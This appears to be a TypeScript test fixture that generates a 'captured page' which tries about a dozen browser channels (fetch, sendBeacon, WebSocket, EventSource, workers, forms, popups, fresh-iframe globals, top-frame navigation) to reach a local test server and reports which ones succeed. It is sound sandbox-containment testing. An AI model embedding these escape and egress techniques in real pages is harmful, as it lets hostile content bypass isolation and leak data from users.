/** A captured page that tries every way out it knows, and says on itself what came of each. */
export type Outside = { /** `127.0.0.1:port` of a server that nobody should reach */ readonly host: string };

/** Marks that the page shows once each way was tried. */
export const TRIED = 'all ways tried';

/** After so long it tries to take the whole tab elsewhere. */
export const LAST_MS = 1500;

export const pryingPage = ({ host }: Outside): string => `<!doctype html>
<html><head><title>Statement</title>
<link rel="stylesheet" href="http://${host}/style.css">
<link rel="dns-prefetch" href="http://${host}/"><link rel="prefetch" href="http://${host}/prefetch">
</head><body>
<h1>The statement as it was captured</h1>
<img src="http://${host}/picture"><iframe src="http://${host}/frame"></iframe>
<form id="f" action="http://${host}/form" method="post" target="_blank"><input name="a"></form>
<a id="top" href="http://${host}/top" target="_top">top</a>
<p id="said"></p>
<script>
const out = 'ht' + 'tp://${host}';
const bare = () => { const frame = document.createElement('iframe'); document.body.append(frame); return frame.contentWindow; };
const ways = {
  fetch: () => fetch(out + '/fetch', { mode: 'no-cors' }),
  bareFetch: () => bare().fetch.call(window, out + '/bare', { mode: 'no-cors' }),
  beacon: () => navigator.sendBeacon(out + '/beacon', 'x'),
  socket: () => new Promise((yes, no) => { const s = new (bare().WebSocket)('ws://${host}/socket'); s.onopen = yes; s.onerror = () => no(new Error('socket')); }),
  events: () => new Promise((yes, no) => { const s = new (bare().EventSource)(out + '/events'); s.onopen = yes; s.onerror = () => no(new Error('events')); }),
  script: () => new Promise((yes, no) => { const s = document.createElement('script'); s.src = out + '/script.js'; s.onload = yes; s.onerror = no; document.body.append(s); }),
  worker: () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("' + out + '/worker",{mode:"no-cors"}).then(()=>postMessage(1),()=>postMessage(0))']))); w.onmessage = ({ data }) => data ? yes() : no(new Error('worker')); w.onerror = no; }),
  popup: () => { if (!window.open(out + '/popup')) throw new Error('popup'); },
  form: () => document.getElementById('f').submit(),
  outer: () => { void bare().top.document.title; },
  cookie: () => { bare().document.cookie = 'left=1; path=/'; },
  self: () => { bare().location = out + '/self'; },
};
(async () => {
  const soon = new Promise((_, no) => setTimeout(() => no(new Error('late')), 4000));
  const said = [];
  for (const [name, way] of Object.entries(ways)) {
    try { await Promise.race([Promise.resolve().then(way), soon]); said.push(name + ': went'); } catch (error) { said.push(name + ': refused'); }
  }
  document.getElementById('said').textContent = said.join(', ') + '; ${TRIED}';
  // The last way takes this page with it where it is open.
  setTimeout(() => { bare().top.location = out + '/top'; document.getElementById('top').click(); }, ${LAST_MS});
})();
</script></body></html>`;
